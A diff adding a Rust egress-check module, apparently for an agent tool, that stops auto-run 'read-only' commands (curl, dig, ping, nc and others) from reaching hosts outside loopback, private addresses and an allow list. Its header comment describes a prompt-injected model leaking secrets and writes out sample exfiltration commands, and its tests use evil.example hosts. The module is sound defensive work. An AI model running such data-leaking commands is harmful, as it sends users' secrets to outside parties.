@@ -1,0 +1,215 @@
+//! Where a read-only command may send data. Read-only commands run with
+//! no one asking, and their output reaches the model and the room, so a
+//! prompt-injected model could read something and send it away with a
+//! "read-only" request: `curl https://anyhost/?d=SECRET`, `dig
+//! SECRET.anydomain`, `ping -p HEX host`. A command that reaches the
+//! network is read-only only toward loopback, the lab's own private
+//! addresses, and the hosts this [`Egress`] allows (Nomos builds it from
+//! the inventory and `[gate] egress_allow`); anywhere else it needs a
+//! person, and the card says where.
+
+use std::net::IpAddr;
+
+use crate::Arg;
+
+/// The hosts read-only commands may reach beyond loopback and private
+/// addresses: exact names or addresses, or `.example.org` for a domain and
+/// everything under it. Names compare without case and a final dot.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Egress {
+    allowed: Vec<String>,
+}
+
+impl Egress {
+    /// Loopback and private addresses only.
+    pub fn loopback_only() -> Egress {
+        Egress::default()
+    }
+
+    pub fn new<I, S>(allowed: I) -> Egress
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        Egress {
+            allowed: allowed
+                .into_iter()
+                .map(|s| normal(s.as_ref()))
+                .filter(|s| !s.is_empty() && s != ".")
+                .collect(),
+        }
+    }
+
+    /// Whether a read-only command may reach `host`.
+    pub fn allows(&self, host: &str) -> bool {
+        let host = normal(host);
+        let host = host.trim_start_matches('[').trim_end_matches(']');
+        if host == "localhost" || host.ends_with(".localhost") {
+            return true;
+        }
+        if let Ok(ip) = host.parse::<IpAddr>() {
+            if lab_address(ip) {
+                return true;
+            }
+        }
+        self.allowed.iter().any(|a| match a.strip_prefix('.') {
+            Some(domain) => host == domain || host.ends_with(a.as_str()),
+            None => host == a,
+        })
+    }
+}
+
+fn normal(s: &str) -> String {
+    s.trim().trim_end_matches('.').to_ascii_lowercase()
+}
+
+/// Loopback, private (RFC 1918, unique local) and link-local addresses:
+/// the lab's own network.
+fn lab_address(ip: IpAddr) -> bool {
+    match ip {
+        IpAddr::V4(v4) => v4.is_loopback() || v4.is_private() || v4.is_link_local(),
+        IpAddr::V6(v6) => {
+            v6.is_loopback()
+                || (v6.segments()[0] & 0xfe00) == 0xfc00
+                || (v6.segments()[0] & 0xffc0) == 0xfe80
+        }
+    }
+}
+
+/// How a program names where it sends: the hosts among its operands.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Reach {
+    /// URLs (or bare host names) among its words: curl, wget.
+    Urls,
+    /// DNS names or addresses it looks up or probes: dig, ping, …
+    Hosts,
+}
+
+fn reach(program: &str) -> Option<Reach> {
+    match program {
+        "curl" | "wget" => Some(Reach::Urls),
+        "dig" | "host" | "nslookup" | "ping" | "ping6" | "traceroute" | "traceroute6"
+        | "tracepath" | "tracepath6" | "mtr" | "ssh-keyscan" | "nc" | "ncat" | "netcat"
+        | "telnet" | "fping" | "arping" | "whois" => Some(Reach::Hosts),
+        _ => None,
+    }
+}
+
+/// Words that are not places: DNS record types and classes, `dig`'s
+/// `+options`.
+fn not_a_place(word: &str) -> bool {
+    const TYPES: &[&str] = &[
+        "a", "aaaa", "any", "caa", "cname", "dnskey", "ds", "mx", "naptr", "ns", "ptr", "soa",
+        "srv", "sshfp", "tlsa", "txt", "axfr", "ixfr", "in", "ch", "hs", "https", "svcb",
+    ];
+    word.starts_with('+')
+        || word.starts_with('-')
+        || TYPES.contains(&word.to_ascii_lowercase().as_str())
+        || word.chars().all(|c| c.is_ascii_digit())
+}
+
+/// The host of a URL or a bare `host[:port][/path]` (`user@` dropped).
+pub fn host_of(word: &str) -> &str {
+    let rest = word.split_once("://").map_or(word, |(_, r)| r);
+    let rest = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    let rest = rest.rsplit_once('@').map_or(rest, |(_, h)| h);
+    if let Some(v6) = rest.strip_prefix('[') {
+        return v6.split(']').next().unwrap_or(v6);
+    }
+    // One colon is a port; more is a bare IPv6 address.
+    match rest.matches(':').count() {
+        1 => rest.split(':').next().unwrap_or(rest),
+        _ => rest,
+    }
+}
+
+/// Why `program` with these operands may send data where `egress` does
+/// not allow, if it may.
+pub(crate) fn outside(
+    egress: &Egress,
+    program: &str,
+    operands: &[&Arg],
+    all: &[Arg],
+) -> Option<String> {
+    let reach = reach(program)?;
+    let words: Vec<&Arg> = match reach {
+        // A URL may also hide in an option's value (`--url`).
+        Reach::Urls => all
+            .iter()
+            .filter(|a| a.is_dynamic() || a.raw().contains("://"))
+            .chain(operands.iter().copied())
+            .collect(),
+        Reach::Hosts => operands.to_vec(),
+    };
+    for word in words {
+        let Some(text) = word.literal() else {
+            return Some(format!(
+                "`{program}` reaches `{}`, a place only known at run time",
+                word.raw()
+            ));
+        };
+        let text = text.strip_prefix('@').unwrap_or(text);
+        if reach == Reach::Hosts && not_a_place(text) {
+            continue;
+        }
+        let host = host_of(text);
+        if !egress.allows(host) {
+            return Some(format!(
+                "`{program}` sends data to {host}, outside loopback, the lab's private network, \
+                 the inventory and `[gate] egress_allow`"
+            ));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn loopback_private_and_listed_hosts_are_allowed() {
+        let e = Egress::new(["pve.lab", ".deb.debian.org", "203.0.113.7"]);
+        for ok in [
+            "127.0.0.1",
+            "::1",
+            "[::1]",
+            "localhost",
+            "10.0.0.5",
+            "192.168.1.1",
+            "172.16.3.4",
+            "fe80::1",
+            "fd00::2",
+            "pve.lab",
+            "PVE.LAB.",
+            "ftp.deb.debian.org",
+            "deb.debian.org",
+            "203.0.113.7",
+        ] {
+            assert!(e.allows(ok), "{ok}");
+        }
+        for no in [
+            "8.8.8.8",
+            "evil.example",
+            "pve.lab.evil.example",
+            "xdeb.debian.org",
+            "203.0.113.8",
+            "2001:db8::1",
+            "172.32.0.1",
+        ] {
+            assert!(!e.allows(no), "{no}");
+        }
+    }
+
+    #[test]
+    fn hosts_are_read_from_urls_and_bare_names() {
+        assert_eq!(
+            host_of("https://user:pw@evil.example:8443/x?y"),
+            "evil.example"
+        );
+        assert_eq!(host_of("http://[::1]:8006/api"), "::1");
+        assert_eq!(host_of("127.0.0.1:8006"), "127.0.0.1");
+        assert_eq!(host_of("fe80::1"), "fe80::1");
+        assert_eq!(host_of("evil.example/path"), "evil.example");
+    }
+}
